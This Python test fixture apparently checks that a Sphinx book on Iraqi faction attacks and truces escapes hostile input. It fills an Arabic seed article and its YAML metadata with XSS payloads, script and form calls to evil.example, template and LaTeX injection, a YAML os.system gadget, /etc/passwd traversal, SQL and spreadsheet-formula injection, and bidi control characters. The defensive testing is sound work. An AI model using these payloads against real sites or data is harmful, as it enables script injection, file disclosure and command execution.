"""A sixth article that attacks the book: markup, code, addresses and signs in every field for words."""

import hashlib
import re
import shutil
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[2]
ID = "905_0123456789abcdef"
SECRET = "the words of a file outside the book"
"""What the file `secret.txt` beside the project says; no page may."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style><style>*{display:none}</style>",
    "</script><script src=//evil.example/x.js></script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<svg/onload=alert(1)>",
    "<svg><use href=data:image/svg+xml,x /></svg>",
    "<object data=x></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=q></form>",
    "<base href=//e>",
    '"><b onmouseover=alert(1) x="',
    "' onfocus='alert(1)' autofocus='",
    "<!-- -->",
    "<!--",
    "]]>",
    "<![CDATA[x",
    "<?xml version='1.0'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&nbsp;&bogus;",
    "```{raw} html",
    "```\n```{raw} html\n<script>alert(1)</script>\n```\n",
    ":::{include} ../secret.txt\n:::",
    "{eval-rst}`x`",
    "```{eval-rst}\n.. include:: ../secret.txt\n```",
    ".. raw:: html\n\n   <script>x</script>",
    "```{include} ../secret.txt\n```",
    "{download}`../secret.txt`",
    "{include}`/etc/passwd`",
    "{fact}`no-such`",
    "{ref}`nowhere`",
    "{doc}`../secret`",
    "`text <javascript:alert(1)>`_",
    ":raw-html:`<script>`",
    "|x| |y|_ [#]_",
    "{{ 7 * 7 }}",
    "{% include '../secret.txt' %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(x)s {0} {x!r}",
    r"\input{../secret.txt}",
    r"\write18{id}",
    "$$x^2$$",
    r"\(x\)",
    "}} \\end{document}",
    "} @misc{evil, url={x}}",
    "[x](javascript:alert(1))",
    "![x](../secret.txt)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[[x]] **b** _i_ # h\n# Heading\n\n---\n",
    "(target)=",
    "% comment",
    "\n+++\n",
    "[^1]\n\n[^1]: x",
    "| a | b |\n|---|---|",
    "!!python/object/apply:os.system [id]",
    "*alias &anchor",
    "file:///etc/passwd",
    "data:text/html,<script>1</script>",
    "../../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "s-000-000000",
    "#s-003-de71d7",
    'href="#s-003-de71d7" data-statement="s-003-de71d7"',
    "</text></svg><script>1</script>",
    "url(javascript:alert(1))",
    "}*{background:url(//evil.example)}",
    "} @import '//evil.example';",
    "\u200b\u200d\u2060\ufeff\u00ad",
    "\u202bمرحبا\u202c",
    "\u2067x\u2069",
    "e" + "\u0301" * 200,
    "\U0001f680\U000e0001",
    "\u2028\u2029",
    "ﷺ" * 50,
    "TY  - JOUR\nER  - \n",
    'x","y',
    "x;y|z\ty",
    "'; DROP TABLE statements; --",
    "x=cmd|'/C calc'!A0",
)
"""Words that stay what they are, everywhere."""
ALONE = ("x" * 100_000, "قصف" * 30_000)
"""Words so long that one place is enough."""
SIGNS = ("\x00", "\x07", "\x1b[2J\x1b]0;title\x07", "\x08", "\x7f", "\x9b31m", "\ud800", "\u202e", "\u2066x")
"""Signs that no field of a sidecar or a review may hold; the last two change how all that follows is read."""
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1")
"""What a spreadsheet would compute when the data set is opened in it."""
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "vbscript:x",
    "//evil.example",
    "/etc/passwd",
    "../x",
    "ftp://example.org/",
    "https://example.org/ x",
    'https://example.org/"onclick=',
    "https://",
    "https://example.org/<script>",
    "https://example.org/}\\end{document}",
    " https://example.org",
    "https://example.org/\n",
)
"""Addresses that no link of the book may have."""
NAMES = ("..", "../x", "a b", '"><script>', "x;y", "905_\u202e", "905_x.y", "-x", "905_" + "x" * 200)
"""Names that no article may have. One with a slash can't be a file's and is left out where files are made."""

DRAWN = r"<script>1</script> </text></svg>&lt; $\frac{x$ $$ {{7}} url(javascript:1) " + "\U0001f680 \"'"
"""A name that charts draw letter by letter."""


def words(n: int, payload: str) -> str:
    return f"استهدفت الفصائل {payload} بصاروخ رقم {n} قاعدة"


def text() -> str:
    """The article: each payload in a paragraph of its own, and the long words."""
    paragraphs = [f"{words(n, payload)}." for n, payload in enumerate(PAYLOADS)]
    return "\n\n".join(["بغداد - 1 تموز 2024", *paragraphs, *ALONE, ""])


def sidecar(content: str) -> dict[str, Any]:
    """What is known of the article; its headline and evidence hold every payload, in one line."""
    every = "Every: " + " ".join(PAYLOADS)
    return {
        "outlet": {"en": DRAWN, "ar": f"كل {DRAWN}", "transliterated": None},
        "headline": {
            "en": re.sub(r"\s", " ", every),
            "ar": "عنوان <script>",
            "transliterated": "unwan (script)",
        },
        "published": {
            "first": "2024-07-01",
            "last": "2024-07-01",
            "basis": "stated",
            "words": "1 تموز 2024",
            "evidence": every,
        },
        "language": "ar",
        "url": "https://example.org/?a=%22%3Cscript%3E&b='x'#onload=1",
        "sha256": hashlib.sha256(content.encode()).hexdigest(),
        "chrome": [],
    }


def review() -> dict[str, Any]:
    """A coding that has each payload in each of its fields for words."""
    entries = [one(n, payload) for n, payload in enumerate(PAYLOADS)]
    last = len(PAYLOADS)
    entries += [common(last + n, "truce", long, quote=long) | TRUCE for n, long in enumerate(ALONE)]
    every = " ".join(PAYLOADS)
    settled = dict.fromkeys(("on", "first", "second", "decided", "why"), every)
    window = {"first": "2024-06-01", "last": "2024-07-01", "why": every}
    return {"coder": "Every: <script>", "window": window, "settled": [settled], "statements": entries}


TRUCE = {
    "act": "declared",
    "parties": ["iraqi-factions"],
    "mediators": [],
    "guarantors": [],
    "terms": [],
    "deadline_days": None,
}


FORCE = {
    "by": ["iraqi-factions"],
    "target": "us-forces",
    "target_type": "base",
    "killed": None,
    "wounded": None,
    "weapons": [{"type": "rocket", "low": 1, "best": 1, "high": 1}],
    "claimed_by": [],
    "blamed_on": [],
}


def one(n: int, payload: str) -> dict[str, Any]:
    """An attack, a truce act or a total; the first acts and totals have all payloads in terms and what."""
    entry = common(n, ("attack", "truce", "total")[n % 3], payload) | {"speaker": payload}
    if entry["kind"] == "truce":
        every = [f"Terms: {payload.replace(';', ',')}" for payload in PAYLOADS]
        return entry | TRUCE | {"terms": every if n < 6 else []}
    place = {"site": {"id": None, "country": "IQ", "words": payload}}
    if entry["kind"] == "attack":
        return entry | FORCE | place
    what = f"attacks {' '.join(PAYLOADS) if n < 6 else payload}"
    return entry | FORCE | place | {"what": what, "count": None, "counter": None}


def common(n: int, kind: str, payload: str, quote: str = "") -> dict[str, Any]:
    said = f"Said: {payload}"
    return {
        "id": f"s-905-{n:06x}",
        "kind": kind,
        "status": "claimed",
        "scope": "in",
        "quote": quote or words(n, payload),
        "prefix": None,
        "suffix": None,
        "translation": said,
        "note": said,
        "denied_by": [],
        "speaker": None,
        "event": f"hostile-{n}" if kind == "attack" else None,
        "date": {
            "first": "2024-06-30",
            "last": "2024-07-01",
            "basis": "inferred",
            "words": None,
            "conflict": said,
        },
    }


def write(seeds: Path, name: str = ID, short: bool = False) -> None:
    """Put the article, its sidecar and its review into a folder of seeds; short: few statements."""
    content, coding = text(), review()
    if short:
        del coding["statements"][6:], coding["settled"][:]
    (seeds / f"{name}.txt").write_text(content, encoding="utf-8", newline="")
    for ending, data in ((".yml", sidecar(content)), (".review.yml", coding)):
        dump(seeds / f"{name}{ending}", data)


def dump(path: Path, data: object) -> None:
    class Plain(yaml.SafeDumper):
        def ignore_aliases(self, data: Any) -> bool:
            return True

    text = yaml.dump(data, Dumper=Plain, allow_unicode=True, sort_keys=False, width=10**9)
    path.write_text(text.encode("utf-8", "surrogatepass").decode("utf-8", "replace"), encoding="utf-8")


def project(folder: Path) -> Path:
    """A copy of this project, but for its pages, with the article among the others and in a cycle."""
    for name in ("analysis", "seeds", "book/_ext", "book/_static"):
        shutil.copytree(ROOT / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
    for path in (*ROOT.glob("book/*.py"), *ROOT.glob("book/*.csv"), ROOT / "CITATION.cff", ROOT / "LICENSE"):
        shutil.copyfile(path, folder / path.relative_to(ROOT))
    (folder.parent / "secret.txt").write_text(SECRET, encoding="utf-8")
    write(folder / "seeds")
    file = folder / "analysis" / "data" / "cycles.yml"
    cycles = yaml.safe_load(file.read_text(encoding="utf-8"))
    every = "Every: " + " ".join(PAYLOADS)
    evil = next(iter(cycles.values())) | {
        "name": {"en": DRAWN, "ar": f"كل {DRAWN}", "short": {"en": DRAWN, "ar": DRAWN}},
        "declared": ["s-905-000001"],
        "effect": [],
        "ends": [{"statement": "s-905-000004", "mode": "declared over"}],
        "statements": ["s-905-000001", "s-905-000004"],
        "open_start": False,
        "open_end": False,
        "in_return": [{"statement": "s-905-000001", "en": every, "ar": every}],
        "before": [],
        "violations": ["hostile-0"],
        "after": ["hostile-3"],
    }
    dump(file, cycles | {"2024-hostile": evil})
    return folder


CONF = """
import sys
sys.path[:0] = [{root!r}, {root!r} + "/book/_ext"]
extensions = ["myst_nb", "addresses", "arabic", "bibliography", "citing", "dataset", "exhibits", "facts",
              "glossary", "panels", "registers", "search"]
html_static_path = [{root!r} + "/book/_static"]
templates_path = []
nb_execution_mode = "off"
numfig = True
smartquotes = False
myst_enable_extensions = ["attrs_block", "attrs_inline", "colon_fence", "deflist", "substitution", "tasklist"]
"""
